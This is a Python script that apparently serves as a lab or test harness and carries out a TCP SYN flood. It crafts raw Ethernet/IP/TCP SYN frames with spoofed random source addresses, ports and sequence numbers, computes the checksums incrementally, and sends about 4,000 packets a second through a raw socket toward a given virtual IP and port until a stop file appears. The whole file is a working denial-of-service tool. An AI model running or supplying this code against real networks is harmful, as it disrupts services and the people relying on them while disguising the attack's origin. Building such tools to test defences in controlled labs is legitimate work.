"""A SYN flood: connections that nobody means, from random sources, 4,000 a second.

usage: flood.py INTERFACE MAC VIP PORT SEED STOP        until the file STOP exists
Prints "ready" after the first hundred, and at the end JSON: {"sent": N}.
"""

import json
import random
import socket
import struct
import sys
import time
from pathlib import Path

TURN = 100
PAUSE = 0.025
"""Seconds a turn. Faster ones recycle a half-open connection sooner than a client on a busy machine can answer."""
SYN = 0x02


def folded(words: bytes) -> int:
    """The one's complement sum of 16-bit words."""
    total = sum(struct.unpack(f"!{len(words) // 2}H", words))
    return total % 0xFFFF


class Flood:
    """What is the same in all of its SYNs, and the sums over it."""

    def __init__(self, target_mac: str, own_mac: str, vip: str, port: int, chance: random.Random) -> None:
        self.chance = chance
        self.ethernet = bytes.fromhex((target_mac + own_mac).replace(":", "")) + b"\x08\x00"
        self.vip, self.port = socket.inet_aton(vip), port
        header = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP, 0)
        self.ip_sum = folded(header + self.vip)
        pseudo = self.vip + struct.pack("!HH", socket.IPPROTO_TCP, 20)
        self.tcp_sum = folded(pseudo + struct.pack("!HHH", port, 0x5000 | SYN, 65535))

    def frame(self) -> bytes:
        """From anywhere in 11.0.0.0/8 to 110.255.255.255, any port, any sequence number."""
        source, sport, seq = (
            self.chance.randrange(11 << 24, 111 << 24),
            self.chance.randrange(1024, 65536),
            self.chance.getrandbits(32),
        )
        address = (source >> 16) + (source & 0xFFFF)
        ip_check = 0xFFFF - (self.ip_sum + address) % 0xFFFF
        tcp_check = 0xFFFF - (self.tcp_sum + address + sport + (seq >> 16) + (seq & 0xFFFF)) % 0xFFFF
        return self.ethernet + struct.pack(
            "!BBHHHBBHI4sHHIIHHHH",
            *(0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP, ip_check, source, self.vip),
            *(sport, self.port, seq, 0, 0x5000 | SYN, 65535, tcp_check, 0),
        )


def main(interface: str, mac: str, vip: str, port: int, seed: int, stop: Path) -> None:
    own = Path(f"/sys/class/net/{interface}/address").read_text().strip()
    flood = Flood(mac, own, vip, port, random.Random(seed))
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((interface, 0))
        due = time.monotonic()
        while not stop.exists():
            for _ in range(TURN):
                wire.send(flood.frame())
            if not sent:
                print("ready", flush=True)
            sent += TURN
            due += PAUSE
            time.sleep(max(0, due - time.monotonic()))
    print(json.dumps({"sent": sent}))


if __name__ == "__main__":
    if len(sys.argv) != 7:
        sys.exit(__doc__)
    main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5]), Path(sys.argv[6]))
